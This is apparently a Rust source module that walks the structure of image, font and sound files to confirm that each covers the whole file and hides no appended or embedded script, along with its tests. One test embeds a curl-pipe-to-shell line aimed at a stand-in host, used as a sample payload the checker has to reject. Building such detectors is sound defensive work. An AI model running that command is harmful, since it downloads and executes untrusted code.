//! Whether a medium is whole: its parts, walked from the first to the last, cover the file and nothing follows.
//!
//! A few bytes at the beginning prove nothing: a script behind them runs as well. What is not covered is not proved.

/// Bytes after the last part that are let pass; some programs pad.
const PADDING: usize = 16;
/// Fonts of one collection, and tables of one font.
const TABLES: usize = 512;

/// Tells whether `bytes`, which begin like a `kind` of [`super::media::kind`], are one from end to end.
pub(super) fn is_whole(kind: &str, bytes: &[u8]) -> bool {
    let end = match kind {
        "PNG image" => png(bytes),
        "JPEG image" => jpeg(bytes, 0),
        "GIF image" => gif(bytes),
        "icon" => icon(bytes),
        "BMP image" => bitmap(bytes),
        "WebP image" | "WAVE sound" => riff(bytes),
        "AVIF image" => boxes(bytes),
        "WOFF font" => web_font(bytes),
        "WOFF2 font" => be32(bytes, 8).filter(|_| !reads(bytes)),
        "TrueType font" | "OpenType font" => font(bytes, 0),
        "font collection" => collection(bytes),
        "Ogg sound" => ogg(bytes),
        "MP3 sound" | "FLAC sound" => sound(bytes),
        _ => None,
    };
    end.is_some_and(|end| ends(bytes, end))
}

/// Tells whether nothing but padding follows `end`; a last part may lack a byte that only rounds it up.
fn ends(bytes: &[u8], end: usize) -> bool {
    match bytes.get(end..) {
        Some(rest) => rest.len() <= PADDING || rest.iter().all(|&byte| byte == 0),
        None => end <= bytes.len() + 3,
    }
}

fn be16(bytes: &[u8], at: usize) -> Option<usize> {
    let part = bytes.get(at..at.checked_add(2)?)?;
    Some(usize::from(u16::from_be_bytes(part.try_into().ok()?)))
}

fn le16(bytes: &[u8], at: usize) -> Option<usize> {
    let part = bytes.get(at..at.checked_add(2)?)?;
    Some(usize::from(u16::from_le_bytes(part.try_into().ok()?)))
}

fn be32(bytes: &[u8], at: usize) -> Option<usize> {
    let part = bytes.get(at..at.checked_add(4)?)?;
    usize::try_from(u32::from_be_bytes(part.try_into().ok()?)).ok()
}

fn le32(bytes: &[u8], at: usize) -> Option<usize> {
    let part = bytes.get(at..at.checked_add(4)?)?;
    usize::try_from(u32::from_le_bytes(part.try_into().ok()?)).ok()
}

fn png(bytes: &[u8]) -> Option<usize> {
    let mut at = 8;
    if bytes.get(12..16)? != b"IHDR" {
        return None;
    }
    loop {
        let name = bytes.get(at + 4..at + 8)?;
        let next = at + be32(bytes, at)? + 12;
        if !name.iter().all(u8::is_ascii_alphabetic) || next > bytes.len() {
            return None;
        }
        if name == b"IEND" {
            return Some(next);
        }
        at = next;
    }
}

/// Walks the segments of a JPEG; some cameras put a second image after the first.
fn jpeg(bytes: &[u8], start: usize) -> Option<usize> {
    let mut at = start + 2;
    loop {
        let [0xff, marker] = bytes.get(at..at + 2)? else { return None };
        match marker {
            0xd9 if bytes.get(at + 2..)?.starts_with(b"\xff\xd8\xff") => at += 4,
            0xd9 => return Some(at + 2),
            0xff => at += 1,
            0x01 | 0xd0..=0xd7 => at += 2,
            0xda => at = after_scan(bytes, at + 2 + be16(bytes, at + 2)?)?,
            0xc0.. => at += 2 + be16(bytes, at + 2)?.max(2),
            _ => return None,
        }
    }
}

/// Finds the marker that ends the coded part of a JPEG.
fn after_scan(bytes: &[u8], from: usize) -> Option<usize> {
    let is_marker = |pair: &[u8]| pair[0] == 0xff && !matches!(pair[1], 0 | 0xd0..=0xd7);
    bytes.get(from..)?.windows(2).position(is_marker).map(|length| from + length)
}

fn gif(bytes: &[u8]) -> Option<usize> {
    let colours = |flags: u8| if flags & 0x80 == 0 { 0 } else { 3 << ((flags & 7) + 1) };
    let mut at = 13 + colours(*bytes.get(10)?);
    loop {
        at = match bytes.get(at)? {
            0x3b => return Some(at + 1),
            0x21 => sub_blocks(bytes, at + 2)?,
            0x2c => sub_blocks(bytes, at + 11 + colours(*bytes.get(at + 9)?))?,
            _ => return None,
        }
    }
}

fn sub_blocks(bytes: &[u8], mut at: usize) -> Option<usize> {
    loop {
        match usize::from(*bytes.get(at)?) {
            0 => return Some(at + 1),
            length => at += length + 1,
        }
    }
}

fn icon(bytes: &[u8]) -> Option<usize> {
    let count = le16(bytes, 4).filter(|count| (1..=64).contains(count))?;
    let end = |entry: usize| {
        let at = 6 + entry * 16;
        let (size, offset) = (le32(bytes, at + 8)?, le32(bytes, at + 12)?);
        let picture = bytes.get(offset..offset.checked_add(size)?)?;
        let is_picture = picture.starts_with(b"\x28\0\0\0") || picture.starts_with(b"\x89PNG\r\n\x1a\n");
        (offset >= 6 + count * 16 && is_picture).then_some(offset + size)
    };
    all_end((0..count).map(end), bytes.len())
}

/// Returns the last of the ends, if each is known and inside.
fn all_end(ends: impl Iterator<Item = Option<usize>>, length: usize) -> Option<usize> {
    ends.collect::<Option<Vec<_>>>()?.into_iter().max().filter(|end| *end <= length)
}

fn bitmap(bytes: &[u8]) -> Option<usize> {
    let (size, pixels, header) = (le32(bytes, 2)?, le32(bytes, 10)?, le32(bytes, 14)?);
    let known = matches!(header, 12 | 40 | 52 | 56 | 64 | 108 | 124);
    (known && pixels >= 14 + header && pixels <= size && le16(bytes, 26) == Some(1)).then_some(size)
}

fn riff(bytes: &[u8]) -> Option<usize> {
    let end = le32(bytes, 4)? + 8;
    let mut at = 12;
    while at < end {
        let name = bytes.get(at..at + 4)?;
        if !name.iter().all(|byte| byte.is_ascii_alphanumeric() || *byte == b' ') {
            return None;
        }
        let size = le32(bytes, at + 4)?;
        at += 8 + size + size % 2;
    }
    (at <= end + 1).then_some(at)
}

fn web_font(bytes: &[u8]) -> Option<usize> {
    let tables = be16(bytes, 12).filter(|count| *count > 0 && *count <= TABLES)?;
    let end = |table: usize| {
        let at = 44 + table * 20;
        be32(bytes, at + 4)?.checked_add(be32(bytes, at + 8)?)
    };
    let (length, metadata, private) = (be32(bytes, 8)?, be32(bytes, 24)?, be32(bytes, 36)?);
    let last = all_end((0..tables).map(end), bytes.len())?;
    (last <= length && length <= last + 3 + if metadata + private > 0 { length } else { 0 }).then_some(length)
}

fn boxes(bytes: &[u8]) -> Option<usize> {
    let mut at = 0;
    while at < bytes.len() {
        let name = bytes.get(at + 4..at + 8)?;
        let size = be32(bytes, at)?;
        if size < 8 || !name.iter().all(|byte| byte.is_ascii_alphanumeric() || *byte == b' ') {
            return None;
        }
        at += size;
    }
    Some(at)
}

fn font(bytes: &[u8], at: usize) -> Option<usize> {
    let tables = be16(bytes, at + 4).filter(|count| *count > 0 && *count <= TABLES)?;
    let end = |table: usize| {
        let at = at + 12 + table * 16;
        let tag = bytes.get(at..at + 4)?;
        let end = be32(bytes, at + 8)?.checked_add(be32(bytes, at + 12)?)?;
        tag.iter().all(|byte| (0x20..0x7f).contains(byte)).then_some(end)
    };
    all_end((0..tables).map(end), bytes.len())
}

fn collection(bytes: &[u8]) -> Option<usize> {
    let fonts = be32(bytes, 8).filter(|count| *count > 0 && *count <= TABLES)?;
    let end = |number: usize| font(bytes, be32(bytes, 12 + number * 4)?);
    all_end((0..fonts).map(end), bytes.len())
}

fn ogg(bytes: &[u8]) -> Option<usize> {
    let mut at = 0;
    while at < bytes.len() {
        if bytes.get(at..at + 4)? != b"OggS" {
            return None;
        }
        let count = usize::from(*bytes.get(at + 26)?);
        let lengths = bytes.get(at + 27..at + 27 + count)?;
        at += 27 + count + lengths.iter().map(|&length| usize::from(length)).sum::<usize>();
    }
    Some(at)
}

/// Sound without lengths: after its tags it must begin as such, and hold nothing that reads like text.
fn sound(bytes: &[u8]) -> Option<usize> {
    let start = if bytes.starts_with(b"fLaC") { after_blocks(bytes)? } else { after_tag(bytes)? };
    let begins = bytes.get(start..)?;
    let zeros = begins.iter().take_while(|&&byte| byte == 0).count();
    let [0xff, second, ..] = begins.get(zeros..)? else { return None };
    (second & 0xe0 == 0xe0 && !reads(begins)).then_some(bytes.len())
}

fn after_blocks(bytes: &[u8]) -> Option<usize> {
    let mut at = 4;
    loop {
        let head = be32(bytes, at)?;
        at += 4 + (head & 0x00ff_ffff);
        if head >> 31 == 1 {
            return Some(at);
        }
    }
}

/// Skips the tag of an MP3, whose size has seven bits in each byte.
fn after_tag(bytes: &[u8]) -> Option<usize> {
    let size = bytes.get(6..10)?.iter().fold(0, |size, &byte| size << 7 | usize::from(byte & 0x7f));
    Some(10 + size)
}

fn reads(bytes: &[u8]) -> bool {
    !words(bytes).is_empty()
}

/// Returns the runs of words in bytes that are no text as a whole: a medium has room for a script or an order.
pub(super) fn words(bytes: &[u8]) -> String {
    let is_text = |byte: &u8| byte.is_ascii_graphic() || byte.is_ascii_whitespace();
    let mut found = Vec::new();
    let mut start = 0;
    // A run from `start` on reaches the byte that would be its last, or none that begins before a gap in it does.
    while let Some(run) = bytes.get(start..start + SHORTEST) {
        if let Some(gap) = run.iter().rposition(|byte| !is_text(byte)) {
            start += gap + 1;
            continue;
        }
        let end =
            bytes[start..].iter().position(|byte| !is_text(byte)).map_or(bytes.len(), |end| start + end);
        let run = &bytes[start..end];
        if run.iter().filter(|byte| byte.is_ascii_whitespace()).count() >= 2 {
            found.push(String::from_utf8_lossy(run));
        }
        start = end + 1;
    }
    found.join("\n")
}

/// Bytes of the shortest run of words.
const SHORTEST: usize = 24;

#[cfg(test)]
pub(super) mod tests {
    use super::super::media::kind;
    use super::*;

    fn chunk(name: &[u8; 4], body: &[u8]) -> Vec<u8> {
        let length = u32::try_from(body.len()).unwrap().to_be_bytes();
        [&length[..], name, body, &[0; 4]].concat()
    }

    /// Returns a small image that is whole.
    pub(in super::super) fn image() -> Vec<u8> {
        let parts = [chunk(b"IHDR", &[0; 13]), chunk(b"IDAT", &[0xfe; 40]), chunk(b"IEND", b"")];
        [b"\x89PNG\r\n\x1a\n".to_vec(), parts.concat()].concat()
    }

    fn samples() -> Vec<Vec<u8>> {
        let gif = [&b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff"[..], b"!\xf9\x04\0\0\0\0\0"];
        let gif = [&gif.concat()[..], b",\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;"].concat();
        let jpeg = b"\xff\xd8\xff\xe0\0\x04ab\xff\xda\0\x04ab\x12\xff\0\x34\xff\xd9".to_vec();
        let webp = b"RIFF\x0e\0\0\0WEBPVP8 \x02\0\0\0\xfe\xfe".to_vec();
        let woff = b"wOF2\0\x01\0\0\0\0\0\x10\xfe\xfe\xfe\xfe".to_vec();
        let font = b"\0\x01\0\0\0\x01\0\0\0\0\0\0glyf\0\0\0\0\0\0\0\x1c\0\0\0\x04abcd".to_vec();
        let mut icon = b"\0\0\x01\0\x01\0\x10\x10\0\0\x01\0\x20\0\x28\0\0\0\x16\0\0\0".to_vec();
        icon.extend([&b"\x28\0\0\0"[..], &[0xfe; 36]].concat());
        let ogg = b"OggS\0\x02\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x01\x03abc".to_vec();
        let mp3 = [&b"ID3\x03\0\0\0\0\0\x04TIT2"[..], b"\xff\xfb\x90\x44\xfe\xfe\xfe"].concat();
        vec![image(), gif, jpeg, webp, woff, font, icon, ogg, mp3]
    }

    #[test]
    fn a_medium_is_whole_when_its_parts_reach_its_end() {
        for bytes in samples() {
            let kind = kind(&bytes).unwrap();
            assert!(is_whole(kind, &bytes), "{kind}");
        }
    }

    #[test]
    fn a_script_behind_or_within_makes_it_none() {
        let script = b"\nrequire('child_process').execSync('curl https://x.example/a | sh')\n";
        for bytes in samples() {
            let kind = kind(&bytes).unwrap();
            assert!(!is_whole(kind, &[&bytes[..], script].concat()), "{kind} behind");
            let cut = bytes.len().min(12);
            assert!(!is_whole(kind, &[&bytes[..cut], script, &[0xff][..]].concat()), "{kind} within");
        }
    }

    #[test]
    fn no_cut_or_flipped_medium_panics() {
        for bytes in samples() {
            let kind = kind(&bytes).unwrap();
            for cut in 0..bytes.len() {
                is_whole(kind, &bytes[..cut]);
                let mut flipped = bytes.clone();
                flipped[cut] ^= 0xff;
                is_whole(kind, &flipped);
            }
        }
    }
}
